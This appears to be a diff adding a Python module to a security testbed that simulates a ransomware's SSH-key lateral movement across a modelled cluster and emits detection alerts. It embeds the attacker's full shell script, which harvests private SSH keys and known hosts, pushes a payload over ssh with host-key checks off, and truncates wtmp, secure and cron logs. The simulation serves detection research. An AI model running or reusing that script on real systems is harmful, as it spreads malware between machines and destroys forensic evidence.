@@ -1,0 +1,224 @@
+"""SSH-key lateral movement (the Fig. 5 payload).
+
+The ransomware's lateral-movement script enumerates private SSH keys
+(``find ~/ /root /home -maxdepth 2 -name 'id_rsa*'``), harvests target
+hosts from ``known_hosts`` / ssh configs / shell history, then loops
+``ssh -oStrictHostKeyChecking=no -oBatchMode=yes`` over every
+(user, host, key) triple to push the payload, and finally truncates
+``wtmp`` / ``secure`` / ``cron`` / root's mail spool to erase its trace.
+
+:class:`LateralMovementEngine` reproduces that behaviour against the
+simulated cluster topology: starting from a compromised host it
+harvests keys and known hosts, spreads along SSH trust edges breadth-
+first (bounded by hops / host count), emits the per-step monitor
+records and symbolic alerts, and reports the infection tree.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+from typing import Optional
+
+from ..core.alerts import Alert
+from ..telemetry.osquery import OsqueryMonitor
+from ..telemetry.syslog import SyslogMonitor
+from ..testbed.topology import ClusterTopology
+
+#: The (lightly sanitised) lateral-movement script from Fig. 5.
+LATERAL_MOVEMENT_SCRIPT = r"""
+KEYS=$(find ~/ /root /home -maxdepth 2 -name 'id_rsa*' | grep -vw pub)
+HOSTS=$(cat ~/.ssh/config /home/*/.ssh/config /root/.ssh/config | grep HostName)
+HOSTS2=$(cat ~/.bash_history /home/*/.bash_history /root/.bash_history | grep -E "(ssh|scp)")
+HOSTS3=$(cat ~/*/.ssh/known_hosts /home/*/.ssh/known_hosts /root/.ssh/known_hosts)
+USERZ=$(echo root; find ~/ /root /home -maxdepth 2 -name '\.ssh' | uniq | xargs find | awk '/id_rsa/')
+for user in $users; do
+  for host in $hosts; do
+    for key in $keys; do
+      chmod +r $key; chmod 400 $key
+      ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i $key $user@$host "$PAYLOAD"
+    done
+  done
+done
+echo 0>/var/spool/mail/root
+echo 0>/var/log/wtmp
+echo 0>/var/log/secure
+echo 0>/var/log/cron
+""".strip()
+
+
+@dataclasses.dataclass
+class InfectionEvent:
+    """One successful hop of the lateral movement."""
+
+    timestamp: float
+    source_host: str
+    target_host: str
+    key_used: str
+    hop: int
+
+
+@dataclasses.dataclass
+class LateralMovementResult:
+    """Outcome of one lateral-movement run."""
+
+    origin: str
+    infections: list[InfectionEvent]
+    keys_harvested: list[str]
+    hosts_enumerated: list[str]
+    alerts: list[Alert]
+    logs_wiped: bool
+
+    @property
+    def infected_hosts(self) -> list[str]:
+        """All hosts infected (excluding the origin), in infection order."""
+        return [event.target_host for event in self.infections]
+
+    @property
+    def blast_radius(self) -> int:
+        """Number of hosts infected beyond the origin."""
+        return len({event.target_host for event in self.infections})
+
+
+class LateralMovementEngine:
+    """Reproduces the ransomware's recursive SSH-key spreading."""
+
+    def __init__(
+        self,
+        topology: ClusterTopology,
+        *,
+        max_hops: int = 3,
+        max_hosts: int = 50,
+        per_hop_delay_seconds: float = 45.0,
+    ) -> None:
+        self.topology = topology
+        self.max_hops = int(max_hops)
+        self.max_hosts = int(max_hosts)
+        self.per_hop_delay_seconds = float(per_hop_delay_seconds)
+
+    # ------------------------------------------------------------------
+    def run(
+        self,
+        origin: str,
+        *,
+        entity: str,
+        attacker_ip: str = "",
+        start_time: float = 0.0,
+        syslog: Optional[SyslogMonitor] = None,
+        osquery: Optional[OsqueryMonitor] = None,
+        wipe_logs: bool = True,
+    ) -> LateralMovementResult:
+        """Run the movement starting from ``origin``.
+
+        ``syslog``/``osquery`` (when given) receive the raw records the
+        compromised origin host would produce; symbolic alerts are
+        always produced so the detector-facing path does not depend on
+        the normaliser.
+        """
+        origin_host = self.topology.host(origin)
+        origin_host.mark_compromised()
+        clock = float(start_time)
+        alerts: list[Alert] = []
+        syslog = syslog or SyslogMonitor(origin)
+        osquery = osquery or OsqueryMonitor(origin)
+
+        # Step 1: enumerate private keys on the origin.
+        keys = sorted(origin_host.ssh_keys) or [f"id_rsa_{origin}"]
+        syslog.command_executed(clock, "root", "find ~/ /root /home -maxdepth 2 -name 'id_rsa*' |grep -vw pub")
+        osquery.process_event(clock, "root", "/usr/bin/find", "find / -name id_rsa*")
+        alerts.append(self._alert(clock, "alert_ssh_key_enumeration", entity, origin, attacker_ip))
+        clock += 20.0
+
+        # Step 2: harvest known hosts / configs / histories.
+        known = sorted(origin_host.known_hosts)
+        syslog.command_executed(clock, "root", "cat ~/.ssh/config /home/*/.ssh/config |grep HostName")
+        alerts.append(self._alert(clock, "alert_known_hosts_enumeration", entity, origin, attacker_ip))
+        clock += 20.0
+
+        # Step 3: breadth-first spread along trust edges.
+        infections: list[InfectionEvent] = []
+        visited = {origin}
+        frontier = [(origin, 0)]
+        batch_alert_emitted = False
+        while frontier and len(visited) - 1 < self.max_hosts:
+            current, hop = frontier.pop(0)
+            if hop >= self.max_hops:
+                continue
+            current_host = self.topology.host(current)
+            targets = sorted(current_host.known_hosts)
+            for target in targets:
+                if target in visited or len(visited) - 1 >= self.max_hosts:
+                    continue
+                clock += self.per_hop_delay_seconds
+                key = next(iter(sorted(current_host.ssh_keys)), f"id_rsa_{current}")
+                syslog.command_executed(
+                    clock,
+                    "root",
+                    f"ssh -oStrictHostKeyChecking=no -oBatchMode=yes -i {key} root@{target} ./kp",
+                )
+                if not batch_alert_emitted:
+                    alerts.append(self._alert(clock, "alert_lateral_ssh_batch", entity, current, attacker_ip))
+                    batch_alert_emitted = True
+                else:
+                    alerts.append(
+                        self._alert(clock, "alert_ssh_scanning_outbound", entity, current, attacker_ip)
+                    )
+                target_host = self.topology.host(target)
+                target_host.mark_compromised()
+                visited.add(target)
+                infections.append(
+                    InfectionEvent(
+                        timestamp=clock,
+                        source_host=current,
+                        target_host=target,
+                        key_used=key,
+                        hop=hop + 1,
+                    )
+                )
+                frontier.append((target, hop + 1))
+        if infections:
+            alerts.append(
+                self._alert(
+                    infections[-1].timestamp + 5.0,
+                    "alert_internal_host_compromise",
+                    entity,
+                    infections[-1].target_host,
+                    attacker_ip,
+                )
+            )
+
+        # Step 4: wipe the forensic trace on the origin.
+        logs_wiped = False
+        if wipe_logs:
+            clock += 30.0
+            for path in ("/var/spool/mail/root", "/var/log/wtmp", "/var/log/secure", "/var/log/cron"):
+                syslog.log_truncated(clock, path)
+            alerts.append(self._alert(clock, "alert_erase_forensic_trace", entity, origin, attacker_ip))
+            logs_wiped = True
+
+        return LateralMovementResult(
+            origin=origin,
+            infections=infections,
+            keys_harvested=keys,
+            hosts_enumerated=known,
+            alerts=alerts,
+            logs_wiped=logs_wiped,
+        )
+
+    @staticmethod
+    def _alert(ts: float, name: str, entity: str, host: str, source_ip: str) -> Alert:
+        return Alert(
+            timestamp=ts,
+            name=name,
+            entity=entity,
+            source_ip=source_ip,
+            host=host,
+            monitor="osquery",
+        )
+
+
+__all__ = [
+    "LATERAL_MOVEMENT_SCRIPT",
+    "InfectionEvent",
+    "LateralMovementResult",
+    "LateralMovementEngine",
+]
